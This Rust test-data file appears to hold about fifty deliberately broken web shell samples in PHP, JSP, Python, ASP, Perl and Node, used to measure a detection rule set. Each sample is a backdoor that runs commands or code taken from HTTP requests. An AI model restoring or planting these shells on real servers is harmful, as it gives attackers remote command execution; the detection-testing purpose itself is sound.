//! Web shells written after the rules were fixed, by other techniques than those of
//! [`crate::tuned`]: what the set finds of what it was not written against.
//!
//! Inert text, cut like the samples there.

/// How many were denied when this was measured.
pub(crate) const DENIED_WHEN_MEASURED: usize = 13;

/// Name and text.
pub(crate) const WEBSHELLS: &[(&str, &str)] = &[
    (
        "php destructor",
        "<?php\nclass L { public $m; public $d; function __destruct() { $f = $this->m; $f($this->d); } }\n$l = new L; $l->m = 'sys¦tem'; $l->d = $_GE¦T['d'];\n",
    ),
    (
        "php unserialize",
        "<?php\nclass V { public $c; function __wakeup() { ev¦al($this->c); } }\nunserialize(base64_decode($_COO¦KIE['v']));\n",
    ),
    (
        "php filter_input",
        "<?php $c = filter_inp¦ut(INPUT_POST, 'c'); echo shell_¦exec($c);",
    ),
    ("php globals", "<?php ev¦al($GLO¦BALS['_POST']['k']);"),
    (
        "php comment in the call",
        "<?php @ev¦al/**/(/* a */$_PO¦ST/* b */['p']);",
    ),
    ("php extract", "<?php extract($_REQ¦UEST); $f($a);"),
    (
        "php parse_str",
        "<?php parse_str($_SERVER['QUERY_¦STRING'], $q); $q['f']($q['a']);",
    ),
    ("php foreach", "<?php foreach ($_PO¦ST as $k => $v) { @$k($v); }"),
    (
        "php list",
        "<?php list($f, $a) = array_values($_GE¦T); print $f($a);",
    ),
    (
        "php closure",
        "<?php $r = function ($x) { return ev¦al($x); };\narray_walk($_PO¦ST, $r);",
    ),
    (
        "php callback closure",
        "<?php echo preg_replace_callback('/.+/', function ($m) { return shell_¦exec($m[0]); }, $_GE¦T['q']);",
    ),
    (
        "php openssl",
        "<?php\n$k = 'f00f00f00f00';\n$p = openssl_dec¦rypt(file_get_contents('php://input'), 'AES-128-ECB', $k);\nev¦al($p);\n",
    ),
    (
        "php session",
        "<?php\nsession_start();\nif (isset($_PO¦ST['b'])) { $_SESSION['b'] = $_POST['b']; }\nif (isset($_SESSION['b'])) { ev¦al($_SESSION['b']); }\n",
    ),
    (
        "php temporary include",
        "<?php\n$t = tempnam(sys_get_temp_dir(), 's');\nfile_put_contents($t, '<?php ' . $_PO¦ST['c']);\ninclu¦de $t;\nunlink($t);\n",
    ),
    (
        "php ffi",
        "<?php FFI::cd¦ef('int sys¦tem(const char *c);')->sys¦tem($_GE¦T['c']);",
    ),
    (
        "php com",
        "<?php $w = new CO¦M('WScript.Shell'); echo $w->ex¦ec('cmd /c ' . $_GE¦T['c'])->StdOut->ReadAll();",
    ),
    (
        "php reflection method",
        "<?php class Q { static function z($c) { pass¦thru($c); } } (new ReflectionMeth¦od('Q', 'z'))->invoke(null, $_REQ¦UEST['c']);",
    ),
    (
        "php character table",
        "<?php $t = 'abcdefghijklmnopqrstuvwxyz_'; $f = $t[18].$t[24].$t[18].$t[19].$t[4].$t[12]; $f($_GE¦T['n']);",
    ),
    (
        "php chr loop",
        "<?php $s=''; foreach ([112,97,115,115,116,104,114,117] as $n) { $s .= chr($n); } $s($_SER¦VER['HTTP_ACCEPT_LANGUAGE']);",
    ),
    (
        "php pack",
        "<?php $a = pack('H*', '7379737465¦6d'); call_user_func($a, $_GE¦T['x']);",
    ),
    (
        "php goto",
        "<?php goto b; a: echo $f($c); exit; b: $c = $_COO¦KIE['u']; goto d; d: $f = 'shell_¦exec'; goto a;",
    ),
    (
        "php heredoc",
        "<?php $c = $_HEAD ?? $_PO¦ST['z']; ev¦al(<<<E\n$c\nE);",
    ),
    (
        "php exif",
        "<?php $e = exif_read_data('logo.jpg'); preg_replace($e['Make'], $e['Model'], '');",
    ),
    (
        "php null coalescing",
        "<?php ($_GE¦T['f'] ?? 'phpinfo')($_GE¦T['a'] ?? -1);",
    ),
    (
        "php proc_open",
        "<?php\n$p = proc_op¦en(['/bin/sh', '-c', $_GE¦T['c']], [1 => ['pipe', 'w']], $io);\necho stream_get_contents($io[1]);\n",
    ),
    (
        "php password",
        "<?php\nif (md5($_PO¦ST['p'] ?? '') !== '5f4dcc3b5aa765d61d8327deb882cf99') { http_response_code(404); exit; }\n$out = [];\nex¦ec($_POST['c'] . ' 2>&1', $out);\necho implode(\"\\n\", $out);\n",
    ),
    (
        "php plugin",
        "<?php\n/*\nPlugin Name: Cache helper\n*/\nadd_action('init', function () {\n  if (empty($_REQUEST['ch'])) return;\n  $x = base64_decode(strrev($_REQ¦UEST['ch']));\n  ev¦al($x);\n  exit;\n});\n",
    ),
    (
        "php generator",
        "<?php function g() { while (true) { $x = yield; @ass¦ert($x); } } $g = g(); $g->send($_PO¦ST['g']);",
    ),
    ("jsp expression", "${Runtime.getRun¦time().exec(param.c)}"),
    (
        "jsp jspx",
        "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet><![CDATA[ Process q = Runtime.getRun¦time().ex¦ec(request.getPara¦meter(\"i\")); q.waitFor(); ]]></jsp:scriptlet></jsp:root>",
    ),
    (
        "jsp method handles",
        "<% var mh = java.lang.invoke.MethodHandles.lookup().findVirtual(Runtime.cl¦ass, \"ex\"+\"ec\", java.lang.invoke.MethodType.methodType(Process.class, String.class)); mh.invoke(Runtime.getRun¦time(), request.getPara¦meter(\"m\")); %>",
    ),
    (
        "jsp load library",
        "<% System.lo¦ad(request.getPara¦meter(\"so\")); %>",
    ),
    (
        "jsp nashorn",
        "<%@ page import=\"jdk.nashorn.api.scripting.*\" %><% Object o = new NashornScriptEngine¦Factory().getScriptEngine().eval(request.getPara¦meter(\"j\")); out.print(o); %>",
    ),
    (
        "jsp base64 reader",
        "<%@page import=\"java.util.*,java.io.*\"%><% byte[] b = Base64.getDecoder().decode(request.getHea¦der(\"X-C\")); Process p = new Process¦Builder(\"/bin/sh\", \"-c\", new String(b)).redirectErrorStream(true).start(); Scanner s = new Scanner(p.getInput¦Stream()).useDelimiter(\"\\\\A\"); out.print(s.next()); %>",
    ),
    (
        "jsp upload",
        "<%@ page import=\"java.nio.file.*\" %><% Path p = Paths.get(application.getRealPath(\"/\"), request.getPara¦meter(\"n\")); Files.copy(request.getInput¦Stream(), p); %>",
    ),
    (
        "jsp method list",
        "<% java.lang.reflect.Method[] m = Class.for¦Name(\"java.lang.Run\" + \"time\").getMethods(); Object r = null; for (var x : m) if (x.getName().equals(\"getRuntime\")) r = x.invoke(null); for (var x : m) if (x.getName().startsWith(\"ex\") && x.getParameterCount() == 1) x.in¦voke(r, request.getPara¦meter(\"a\")); %>",
    ),
    (
        "python tornado",
        "import tornado.web, subprocess\nclass M(tornado.web.RequestHandler):\n    def post(self):\n        self.write(subprocess.check_out¦put(self.get_body_argu¦ment('c'), shell=True))\n",
    ),
    (
        "python getattr",
        "from flask import Flask, request\nimport os\napp = Flask(__name__)\n@app.get('/')\ndef i():\n    return getattr(os, 'po' + 'pen')(request.ar¦gs['c']).read()\n",
    ),
    (
        "python aiohttp",
        "from aiohttp import web\nimport asyncio\nasync def h(r):\n    p = await asyncio.create_subprocess_ex¦ec('sh', '-c', await r.text(), stdout=-1)\n    return web.Response(body=(await p.communicate())[0])\napp = web.Application(); app.add_routes([web.post('/', h)]); web.run_app(app)\n",
    ),
    (
        "python pickle",
        "from flask import Flask, request\nimport pickle\napp = Flask(__name__)\n@app.route('/s', methods=['POST'])\ndef s():\n    return str(pickle.lo¦ads(request.data))\n",
    ),
    (
        "python django",
        "from django.http import HttpResponse\nimport os\ndef status(request):\n    c = request.MET¦A.get('HTTP_X_STATUS', 'true')\n    return HttpResponse(os.po¦pen(c).read())\n",
    ),
    (
        "python interpreter",
        "import code, io, contextlib\ndef app(environ, start_response):\n    n = int(environ['CONTENT_LENGTH'])\n    b = io.StringIO()\n    with contextlib.redirect_stdout(b):\n        code.Interactive¦Interpreter().runcode(environ['wsgi.in¦put'].read(n).decode())\n    start_response('200 OK', [])\n    return [b.getvalue().encode()]\n",
    ),
    (
        "python cgi",
        "#!/usr/bin/env python3\nimport os, sys, urllib.parse\nprint('Content-Type: text/plain\\n')\nsys.stdout.flush()\nos.ex¦ecvp('sh', ['sh', '-c', urllib.parse.unquote(os.environ['QUERY_STR¦ING'])])\n",
    ),
    (
        "asp wscript",
        "<%\nSet s = Server.CreateObj¦ect(\"WScript.Shell\")\nSet e = s.Ex¦ec(\"cmd /c \" & Request.QueryStr¦ing(\"c\"))\nResponse.Write e.StdOut.ReadAll\n%>",
    ),
    (
        "ashx compiler",
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { var r = new CSharpCode¦Provider().CompileAssemblyFromSource(new CompilerParameters(), c.Requ¦est.Form[\"s\"]); r.CompiledAssembly.CreateInst¦ance(\"X\"); } }",
    ),
    (
        "aspx process",
        "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Diagnostics\" %><% var p = Process.Sta¦rt(new ProcessStart¦Info { FileName = \"powershell\", Arguments = Request[\"a\"], UseShellExecute = false, RedirectStandard¦Output = true }); Response.Write(p.StandardOutput.ReadToEnd()); %>",
    ),
    (
        "perl psgi",
        "use Plack::Request;\nmy $app = sub { my $r = Plack::Request->new(shift); my $o = qx{@{[$r->par¦am('c')]}}; [200, [], [$o]] };\n$app;\n",
    ),
    (
        "perl cgi pipe",
        "#!/usr/bin/perl -w\nprint \"Content-type: text/plain\\n\\n\";\nread(STDIN, my $b, $ENV{CONTENT_LENGTH});\nopen(my $h, '-|', 'sh', '-c', $b);\nprint while <$h>;\n",
    ),
    (
        "node body",
        "const http = require('http');\nhttp.createServer((req, res) => { let b = ''; req.on('data', d => b += d); req.on('end', () => { require('child_¦process').ex¦ec(b, (e, o) => res.end(o)); }); }).listen(8081);\n",
    ),
    (
        "node constructor",
        "module.exports = (req, res) => { const f = [].filter.con¦structor(req.bo¦dy.code); res.json(f()); };",
    ),
    (
        "node koa",
        "const Koa = require('koa'); const { execSync } = require('child_¦process'); const app = new Koa(); app.use(ctx => { ctx.body = execSy¦nc(ctx.query.x).toString(); }); app.listen(3000);",
    ),
];
